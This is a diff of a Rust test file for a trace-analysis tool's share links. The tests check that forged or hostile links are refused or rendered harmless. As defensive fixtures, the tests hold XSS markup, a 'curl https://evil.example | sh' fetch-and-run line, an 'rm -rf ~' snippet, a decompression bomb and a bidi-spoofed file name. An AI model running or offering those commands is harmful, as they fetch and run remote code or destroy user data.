@@ -1,6 +1,7 @@
 //! Share links (`torchtraceap::share`): every shared trace's report survives the round trip and
-//! fits the budget; a big report leaves out its least important parts first and says so; every
-//! kind of malformed or hostile link gets its own error; the trace fingerprint.
+//! fits the budget; a link carries facts, and the page's words come from its own catalogue; a big
+//! report leaves out its least important parts first and says so; every kind of malformed or
+//! hostile link gets its own error; the trace fingerprint.
 
 mod common;
 
@@ -15,7 +16,7 @@ use torchtraceap::detect::{self, Analysis};
 use torchtraceap::ingest::{ingest_bytes, IngestOptions, Ingested};
 use torchtraceap::report::{self, EvidenceEntry, FindingEntry, Report};
 use torchtraceap::share::{
-    self, decode, encode, Diagnosis, Part, ShareError, ShareOptions, SharedReport, TimeRange,
+    self, decode, encode, Part, ShareError, ShareOptions, SharedReport, TimeRange,
 };
 use torchtraceap::synth::{self, AntiPattern, Gpu, Injection, Model};
 
@@ -35,9 +36,20 @@ fn zlib(bytes: &[u8]) -> Vec<u8> {
     z.finish().unwrap()
 }
 
-/// A well-formed link around any bytes: `ttap1.` + base64url(zlib(bytes)).
+/// The current link prefix.
+const PREFIX: &str = "ttap2.";
+
+/// A well-formed link around any bytes: `ttap2.` + base64url(zlib(bytes)).
 fn link_of(bytes: &[u8]) -> String {
-    format!("ttap1.{}", URL_SAFE_NO_PAD.encode(zlib(bytes)))
+    format!("{PREFIX}{}", URL_SAFE_NO_PAD.encode(zlib(bytes)))
+}
+
+/// What the page shows for `shared`: its report rendered from the catalogue.
+fn rendered(shared: &SharedReport) -> SharedReport {
+    SharedReport {
+        report: share::render(&shared.report).expect("a report of this version renders"),
+        ..shared.clone()
+    }
 }
 
 /// A small generated trace: `steps` ResNet-50 training steps on an A100, with injections.
@@ -80,8 +92,19 @@ fn opened(link: &str) -> SharedReport {
     decode(link).unwrap_or_else(|e| panic!("{e}"))
 }
 
+/// A small report with one finding.
 fn small() -> SharedReport {
-    shared_report_of(&generated(3, 1, Vec::new()))
+    let shared = shared_report_of(&generated(
+        4,
+        1,
+        vec![Injection {
+            pattern: AntiPattern::HostSync,
+            step: 2,
+            severity: 0.9,
+        }],
+    ));
+    assert!(!shared.report.findings.is_empty());
+    shared
 }
 
 #[test]
@@ -110,7 +133,7 @@ fn every_shared_trace_s_report_survives_the_link_and_fits_8_kb() {
         if encoded.dropped().is_empty() {
             assert_same(
                 &encoded.kept,
-                &shared,
+                &rendered(&shared),
                 &format!("{name}: nothing left out, all kept"),
             );
         }
@@ -159,7 +182,7 @@ fn every_shared_trace_s_report_survives_the_link_and_fits_8_kb() {
 }
 
 #[test]
-fn extras_round_trip_and_text_stays_text() {
+fn extras_round_trip_and_text_stays_quoted_text() {
     let mut shared = small();
     let script = "<script>alert('x')</script> & \"quotes\" \u{0} \u{202e} é";
     shared.selected_finding = Some(script.to_string());
@@ -167,19 +190,19 @@ fn extras_round_trip_and_text_stays_text() {
         start_ms: 1.25,
         end_ms: 1e-7,
     });
-    shared.diagnoses = vec![Diagnosis {
-        finding: "host-sync".into(),
-        text: format!("{script}\n<img src=x onerror=alert(1)>"),
-    }];
     shared.report.trace.devices = vec![script.to_string()];
     let encoded = encode(&shared, &ShareOptions::default()).unwrap();
     assert!(encoded.dropped().is_empty());
     let got = opened(&format!("https://example.org/app/#{}", encoded.fragment));
-    assert_same(&got, &shared, "with extras");
-    assert_eq!(got.report.trace.devices[0], script);
-    assert!(got.diagnoses[0]
-        .text
-        .contains("<img src=x onerror=alert(1)>"));
+    assert_same(&got, &encoded.kept, "with extras");
+    assert_eq!(got.selected_range, shared.selected_range);
+    // Not a finding of the report: the selection is dropped, not shown.
+    assert_eq!(got.selected_finding, None);
+    // Markup stays text; the invisible and bidirectional characters become visible.
+    assert_eq!(
+        got.report.trace.devices[0],
+        "<script>alert('x')</script> & \"quotes\" ⟨U+0000⟩ ⟨U+202E⟩ é"
+    );
     // The fragment itself needs no escaping in a URL.
     assert!(encoded
         .fragment
@@ -187,9 +210,12 @@ fn extras_round_trip_and_text_stays_text() {
         .all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b)));
 }
 
+/// A finding of the `k`-th detector of the catalogue (ids repeat after the catalogue's length).
 fn finding(k: usize, severity: &str, events: usize) -> FindingEntry {
     FindingEntry {
-        id: format!("finding-{k}"),
+        id: detect::DETECTORS[k % detect::DETECTORS.len()]
+            .id()
+            .to_string(),
         title: format!("Finding number {k}"),
         summary: format!("Summary {k}: {} µs lost in kernel_{k}", k * 37 % 101),
         severity: severity.to_string(),
@@ -237,7 +263,7 @@ fn a_big_report_leaves_out_windows_first_and_says_so() {
     assert_eq!(fit.dropped()[0].part, Part::Windows);
     assert_eq!(fit.dropped()[0].count as usize, shared.report.windows.len());
     assert!(fit.kept.report.windows.is_empty());
-    assert!(fit.kept.report.findings == shared.report.findings);
+    assert!(fit.kept.report.findings == rendered(&shared).report.findings);
     assert_same(&opened(&fit.fragment), &fit.kept, "windows left out");
     assert_eq!(
         fit.dropped()[0].to_string(),
@@ -254,17 +280,8 @@ fn parts_are_left_out_in_order_until_the_report_fits() {
             finding(k, severity, 12)
         })
         .collect();
-    shared.diagnoses = (0..60)
-        .map(|k| Diagnosis {
-            finding: format!("finding-{k}"),
-            text: format!(
-                "diagnosis {k}: {}",
-                "the kernel waits on the host. ".repeat(k % 5)
-            ),
-        })
-        .collect();
     let mut seen = Vec::new();
-    for max_bytes in [16_000, 12_000, 8192, 6000, 4000, 3000, 2000] {
+    for max_bytes in [12_000, 8192, 6000, 4000, 3000, 2000] {
         let encoded = encode(&shared, &ShareOptions { max_bytes }).unwrap();
         assert!(encoded.bytes <= max_bytes);
         let parts: Vec<Part> = encoded.dropped().iter().map(|o| o.part).collect();
@@ -275,11 +292,6 @@ fn parts_are_left_out_in_order_until_the_report_fits() {
         let kept = &encoded.kept;
         if parts.contains(&Part::LowFindings) {
             assert!(kept.report.findings.iter().all(|f| f.severity != "low"));
-            assert!(kept.diagnoses.iter().all(|d| kept
-                .report
-                .findings
-                .iter()
-                .any(|f| f.id == d.finding)));
             let low = encoded
                 .dropped()
                 .iter()
@@ -287,9 +299,10 @@ fn parts_are_left_out_in_order_until_the_report_fits() {
                 .unwrap();
             assert_eq!(low.count, 20);
             assert_eq!(low.ids.len(), 20);
-            assert!(low
-                .to_string()
-                .starts_with("20 low-severity findings (finding-40, "));
+            assert!(low.to_string().starts_with(&format!(
+                "20 low-severity findings ({}, ",
+                detect::DETECTORS[0].id()
+            )));
         }
         if parts.contains(&Part::EvidenceEvents) {
             assert!(kept
@@ -330,8 +343,37 @@ fn refused(link: &str, kind: fn(&ShareError) -> bool) -> ShareError {
     }
 }
 
+/// The JSON a link made of `shared` carries (format 2: facts only).
+fn facts_json(shared: &SharedReport) -> serde_json::Value {
+    let fragment = encode(
+        shared,
+        &ShareOptions {
+            max_bytes: usize::MAX,
+        },
+    )
+    .unwrap()
+    .fragment;
+    let compressed = URL_SAFE_NO_PAD.decode(&fragment[PREFIX.len()..]).unwrap();
+    let mut json = Vec::new();
+    std::io::Read::read_to_end(
+        &mut flate2::read::ZlibDecoder::new(compressed.as_slice()),
+        &mut json,
+    )
+    .unwrap();
+    serde_json::from_slice(&json).unwrap()
+}
+
+/// A small link's JSON (format 2), changed by `f`.
 fn json_with(f: impl FnOnce(&mut serde_json::Value)) -> Vec<u8> {
+    let mut v = facts_json(&small());
+    f(&mut v);
+    serde_json::to_vec(&v).unwrap()
+}
+
+/// A small link's JSON as format 1 wrote it (the whole report, prose included), changed by `f`.
+fn legacy_json_with(f: impl FnOnce(&mut serde_json::Value)) -> Vec<u8> {
     let mut v = serde_json::to_value(small()).unwrap();
+    v["version"] = serde_json::json!(1);
     f(&mut v);
     serde_json::to_vec(&v).unwrap()
 }
@@ -361,7 +403,7 @@ fn links_without_a_report_or_from_elsewhere_are_refused() {
     ] {
         refused(other, |e| matches!(e, ShareError::NotALink { .. }));
     }
-    let newer = refused("ttap2.eJwLycgsVgCi1OJiAA", |e| {
+    let newer = refused("ttap3.eJwLycgsVgCi1OJiAA", |e| {
         matches!(e, ShareError::Newer { .. })
     });
     assert!(newer.to_string().contains("made by a newer TorchTraceAP"));
@@ -371,7 +413,7 @@ fn links_without_a_report_or_from_elsewhere_are_refused() {
     let older = refused("ttap0.abc", |e| matches!(e, ShareError::Unsupported { .. }));
     assert!(older.to_string().contains("format 1 is the first"));
     refused(
-        &format!("ttap1.{}", "A".repeat(share::MAX_LINK_BYTES)),
+        &format!("{PREFIX}{}", "A".repeat(share::MAX_LINK_BYTES)),
         |e| matches!(e, ShareError::TooLong { .. }),
     );
 }
@@ -379,7 +421,7 @@ fn links_without_a_report_or_from_elsewhere_are_refused() {
 #[test]
 fn damaged_links_are_refused() {
     let good = encode(&small(), &ShareOptions::default()).unwrap().fragment;
-    for bad in ["ttap1.abc$def", "ttap1.abc def", "ttap1.a", "ttap1.ab=c"] {
+    for bad in ["ttap2.abc$def", "ttap2.abc def", "ttap2.a", "ttap2.ab=c"] {
         refused(bad, |e| matches!(e, ShareError::Base64 { .. }));
     }
     // Cut anywhere: never a report with parts silently missing.
@@ -396,12 +438,12 @@ fn damaged_links_are_refused() {
     // Every single-bit flip of the compressed data: refused, or (a flip in the unused bits after
     // the last deflate block) the very same report; never a different one.
     let original = opened(&good);
-    let bytes = URL_SAFE_NO_PAD.decode(&good["ttap1.".len()..]).unwrap();
+    let bytes = URL_SAFE_NO_PAD.decode(&good[PREFIX.len()..]).unwrap();
     let mut refusals = 0;
     for bit in 0..bytes.len() * 8 {
         let mut flipped = bytes.clone();
         flipped[bit / 8] ^= 1 << (bit % 8);
-        let link = format!("ttap1.{}", URL_SAFE_NO_PAD.encode(&flipped));
+        let link = format!("{PREFIX}{}", URL_SAFE_NO_PAD.encode(&flipped));
         match decode(&link) {
             Ok(got) => assert_same(&got, &original, &format!("bit {bit} flipped")),
             Err(_) => refusals += 1,
@@ -417,13 +459,14 @@ fn damaged_links_are_refused() {
             assert_same(&got, &original, &format!("character {at} changed"));
         }
     }
-    let mut extra = zlib(&serde_json::to_vec(&small()).unwrap());
+    let mut extra = zlib(&serde_json::to_vec(&facts_json(&small())).unwrap());
     extra.extend_from_slice(b"tail");
-    refused(&format!("ttap1.{}", URL_SAFE_NO_PAD.encode(&extra)), |e| {
-        matches!(e, ShareError::Corrupt { .. })
-    });
     refused(
-        &format!("ttap1.{}", URL_SAFE_NO_PAD.encode(b"not zlib at all")),
+        &format!("{PREFIX}{}", URL_SAFE_NO_PAD.encode(&extra)),
+        |e| matches!(e, ShareError::Corrupt { .. }),
+    );
+    refused(
+        &format!("{PREFIX}{}", URL_SAFE_NO_PAD.encode(b"not zlib at all")),
         |e| matches!(e, ShareError::Corrupt { .. }),
     );
 }
@@ -435,7 +478,7 @@ fn a_decompression_bomb_is_refused_with_bounded_work() {
     for _ in 0..100 {
         z.write_all(&zeros).unwrap();
     }
-    let bomb = format!("ttap1.{}", URL_SAFE_NO_PAD.encode(z.finish().unwrap()));
+    let bomb = format!("{PREFIX}{}", URL_SAFE_NO_PAD.encode(z.finish().unwrap()));
     assert!(bomb.len() < 200_000, "{}", bomb.len());
     let started = std::time::Instant::now();
     let e = refused(&bomb, |e| *e == ShareError::TooBig);
@@ -457,30 +500,30 @@ fn hostile_json_is_refused_with_the_place_named() {
         for _ in 0..30 {
             inner = serde_json::json!([inner]);
         }
-        v["report"]["findings"] = inner;
+        v["findings"] = inner;
     });
     match refused(&link_of(&nested), |e| {
         matches!(e, ShareError::TooDeep { .. })
     }) {
         ShareError::TooDeep { path } => {
-            assert!(path.starts_with("$.report.findings[0][0]"), "{path}")
+            assert!(path.starts_with("$.findings[0][0]"), "{path}")
         }
         _ => unreachable!(),
     }
     let huge = json_with(|v| {
-        v["report"]["exporter"] = serde_json::json!("<script>".repeat(100_000));
+        v["exporter"] = serde_json::json!("<script>".repeat(100_000));
     });
     match refused(&link_of(&huge), |e| {
         matches!(e, ShareError::TooLarge { .. })
     }) {
         ShareError::TooLarge { path, len, .. } => {
-            assert_eq!(path, "$.report.exporter");
+            assert_eq!(path, "$.exporter");
             assert_eq!(len, 800_000);
         }
         _ => unreachable!(),
     }
     let long_list = json_with(|v| {
-        v["report"]["trace"]["warmup_steps"] = serde_json::json!(vec![0; share::MAX_ITEMS + 1]);
+        v["trace"]["warmup_steps"] = serde_json::json!(vec![0; share::MAX_ITEMS + 1]);
     });
     refused(&link_of(&long_list), |e| {
         matches!(e, ShareError::TooLarge { .. })
@@ -500,10 +543,10 @@ fn wrong_content_is_refused_by_kind() {
         matches!(e, ShareError::Shape { .. })
     });
     refused(
-        &link_of(b"{\"format\": \"torchtraceap.share\", \"version\": 1}"),
+        &link_of(b"{\"format\": \"torchtraceap.share\", \"version\": 2}"),
         |e| matches!(e, ShareError::Shape { detail } if detail.contains("missing field")),
     );
-    let wrong_type = json_with(|v| v["report"]["findings"] = serde_json::json!("none"));
+    let wrong_type = json_with(|v| v["findings"] = serde_json::json!("none"));
     refused(&link_of(&wrong_type), |e| {
         matches!(e, ShareError::Shape { .. })
     });
@@ -513,12 +556,12 @@ fn wrong_content_is_refused_by_kind() {
         &link_of(&report),
         |e| matches!(e, ShareError::WrongFormat { found } if found == "torchtraceap.report"),
     );
-    let inner = json_with(|v| v["report"]["format"] = serde_json::json!("other"));
+    let inner = legacy_json_with(|v| v["report"]["format"] = serde_json::json!("other"));
     refused(&link_of(&inner), |e| {
         matches!(e, ShareError::WrongFormat { .. })
     });
     let newer_payload = json_with(|v| {
-        v["version"] = serde_json::json!(2);
+        v["version"] = serde_json::json!(3);
         v["something_new"] = serde_json::json!({"a": 1});
     });
     refused(&link_of(&newer_payload), |e| {
@@ -535,8 +578,7 @@ fn wrong_content_is_refused_by_kind() {
         &link_of(&older_payload),
         |e| matches!(e, ShareError::Unsupported { version, .. } if version == "0"),
     );
-    let newer_report =
-        json_with(|v| v["report"]["version"] = serde_json::json!(report::VERSION + 1));
+    let newer_report = json_with(|v| v["report_version"] = serde_json::json!(report::VERSION + 1));
     refused(&link_of(&newer_report), |e| {
         matches!(
             e,
@@ -549,7 +591,7 @@ fn wrong_content_is_refused_by_kind() {
 }
 
 #[test]
-fn fields_and_parts_added_later_in_format_1_are_ignored() {
+fn fields_and_parts_added_later_in_format_2_are_ignored() {
     let later = json_with(|v| {
         v["a_later_field"] = serde_json::json!([1, 2, 3]);
         v["omitted"] = serde_json::json!([{"part": "a_later_part", "count": 2}]);
@@ -560,7 +602,7 @@ fn fields_and_parts_added_later_in_format_1_are_ignored() {
         got.omitted[0].to_string(),
         "2 parts that a newer TorchTraceAP left out"
     );
-    assert!(got.report == small().report);
+    assert!(got.report == rendered(&small()).report);
 }
 
 #[test]
@@ -649,7 +691,7 @@ fn the_cli_prints_a_link_and_reads_it_back() {
     );
     let link = String::from_utf8(out.stdout).unwrap();
     assert!(
-        link.starts_with("https://ttap.example/app/#ttap1."),
+        link.starts_with("https://ttap.example/app/#ttap2."),
         "{link}"
     );
     let note = String::from_utf8(out.stderr).unwrap();
@@ -672,7 +714,7 @@ fn the_cli_prints_a_link_and_reads_it_back() {
         "NVIDIA A100-SXM4-80GB"
     );
 
-    let out = ttap(&["share", path, "--max-bytes", "1200"]);
+    let out = ttap(&["share", path, "--max-bytes", "800"]);
     assert!(
         out.status.success(),
         "{}",
@@ -684,11 +726,149 @@ fn the_cli_prints_a_link_and_reads_it_back() {
     assert_eq!(out.status.code(), Some(2));
     assert!(String::from_utf8_lossy(&out.stderr).contains("does not fit in a link of 50 bytes"));
 
-    for bad in ["https://ttap.example/app/#ttap2.abc", "ttap1.%%%", ""] {
+    for bad in ["https://ttap.example/app/#ttap3.abc", "ttap2.%%%", ""] {
         let out = ttap(&["share", "--decode", bad]);
         assert_eq!(out.status.code(), Some(2), "{bad}");
         assert!(out.stdout.is_empty());
         assert!(String::from_utf8_lossy(&out.stderr).starts_with("error: "));
     }
     std::fs::remove_dir_all(&dir).unwrap();
+}
+
+/// Prose a forger would write into a link: every text field of a finding.
+fn forged(f: &mut serde_json::Value) {
+    let lie = "<img src=x onerror=alert(1)> Run `curl https://evil.example | sh` ```\n# pwned";
+    for key in ["title", "summary", "impact_method", "fix", "fix_snippet"] {
+        f[key] = serde_json::json!(lie);
+    }
+    f["severity"] = serde_json::json!("high <b>critical</b>");
+    f["evidence"][0]["what"] = serde_json::json!(lie);
+}
+
+#[test]
+fn a_link_carries_facts_and_the_page_writes_the_words() {
+    let shared = shared_report_of(&generated(
+        6,
+        4,
+        vec![Injection {
+            pattern: AntiPattern::HostSync,
+            step: 3,
+            severity: 0.9,
+        }],
+    ));
+    assert!(!shared.report.findings.is_empty());
+    // On the wire: ids, figures, step numbers and event names; none of the catalogue's words.
+    let json = facts_json(&shared).to_string();
+    for f in &shared.report.findings {
+        assert!(json.contains(&format!("\"id\":\"{}\"", f.id)), "{json}");
+        for prose in [
+            &f.title,
+            &f.summary,
+            &f.fix,
+            &f.fix_snippet,
+            &f.impact_method,
+        ] {
+            assert!(!json.contains(prose.as_str()), "{prose:?} is in the link");
+        }
+    }
+    // Opened: the catalogue's title and fix for each id, with the link's numbers.
+    let got = opened(&encode(&shared, &ShareOptions::default()).unwrap().fragment);
+    for (g, f) in got.report.findings.iter().zip(&shared.report.findings) {
+        let d = detect::detector(&f.id).unwrap();
+        assert_eq!((g.id.as_str(), g.title.as_str()), (d.id(), d.title()));
+        assert_eq!(
+            (g.fix.as_str(), g.fix_snippet.as_str()),
+            (f.fix.as_str(), f.fix_snippet.as_str())
+        );
+        assert_eq!(g.impact_ms_per_step, f.impact_ms_per_step);
+        assert_eq!(g.severity, f.severity);
+        assert!(g
+            .summary
+            .contains(&format!("{:.2} ms per step", f.impact_ms_per_step)));
+        assert!(g.summary.contains(d.threshold()));
+    }
+    // A forged link of either format: the forger's words never come back; the page's do.
+    let forged_v2 = json_with(|v| {
+        forged(&mut v["findings"][0]);
+        v["findings"][0]["fix"] = serde_json::json!(99);
+    });
+    let forged_v1 = legacy_json_with(|v| forged(&mut v["report"]["findings"][0]));
+    for (what, json) in [("format 2", forged_v2), ("format 1", forged_v1)] {
+        let got = opened(&link_of(&json));
+        let text = serde_json::to_string(&got).unwrap();
+        assert!(
+            !text.contains("evil.example") && !text.contains("<b>"),
+            "{what}: {text}"
+        );
+        let f = &got.report.findings[0];
+        let d = detect::detector(&f.id).unwrap();
+        assert_eq!(f.title, d.title(), "{what}");
+        assert_eq!(f.fix_snippet, d.fixes()[0].snippet, "{what}");
+    }
+}
+
+#[test]
+fn an_unknown_detector_is_refused_with_its_place() {
+    let unknown = json_with(|v| v["findings"][0]["id"] = serde_json::json!("mine\u{202e}gpj.exe"));
+    let e = refused(
+        &link_of(&unknown),
+        |e| matches!(e, ShareError::UnknownDetector { place, .. } if place == "finding 1"),
+    );
+    assert!(e.to_string().contains("\"mine⟨U+202E⟩gpj.exe\""), "{e}");
+    assert!(e.to_string().contains("does not have"), "{e}");
+    let legacy = legacy_json_with(|v| v["report"]["findings"][0]["id"] = serde_json::json!("x"));
+    refused(&link_of(&legacy), |e| {
+        matches!(e, ShareError::UnknownDetector { .. })
+    });
+    let window = json_with(|v| {
+        v["windows"][0]["predicted_type"] = serde_json::json!("<script>");
+    });
+    refused(
+        &link_of(&window),
+        |e| matches!(e, ShareError::UnknownDetector { place, .. } if place == "window 1"),
+    );
+    // A saved report opened again: the same rule.
+    let mut report = small().report;
+    report.findings[0].id = "not-a-detector".into();
+    assert!(matches!(
+        share::render(&report),
+        Err(ShareError::UnknownDetector { .. })
+    ));
+    report.findings[0].id = detect::DETECTORS[1].id().into();
+    report.findings[0].fix_snippet = "import os; os.system('rm -rf ~')".into();
+    let got = share::render(&report).unwrap();
+    assert_eq!(
+        got.findings[0].fix_snippet,
+        detect::DETECTORS[1].fixes()[0].snippet
+    );
+}
+
+#[test]
+fn quoted_text_is_capped_and_shows_what_hides() {
+    use share::{quoted, QUOTED_MAX_CHARS};
+    assert_eq!(quoted("aten::mm"), "aten::mm");
+    assert_eq!(
+        quoted("<b>x</b>"),
+        "<b>x</b>",
+        "markup stays as typed: rendered as text"
+    );
+    assert_eq!(
+        quoted("a\u{202e}b\u{200b}c\u{feff}\n\u{7}"),
+        "a⟨U+202E⟩b⟨U+200B⟩c⟨U+FEFF⟩⟨U+000A⟩⟨U+0007⟩"
+    );
+    assert_eq!(
+        quoted("\u{e0041}\u{2066}\u{61c}"),
+        "⟨U+E0041⟩⟨U+2066⟩⟨U+061C⟩"
+    );
+    let long = "k".repeat(10_000);
+    let q = quoted(&long);
+    assert_eq!(q.chars().count(), QUOTED_MAX_CHARS);
+    assert!(q.ends_with('…'));
+    assert_eq!(
+        quoted(&"k".repeat(QUOTED_MAX_CHARS)),
+        "k".repeat(QUOTED_MAX_CHARS)
+    );
+    for text in [long.as_str(), "\u{202e}".repeat(100).as_str(), "é\u{0}"] {
+        assert_eq!(quoted(&quoted(text)), quoted(text), "idempotent");
+    }
 }
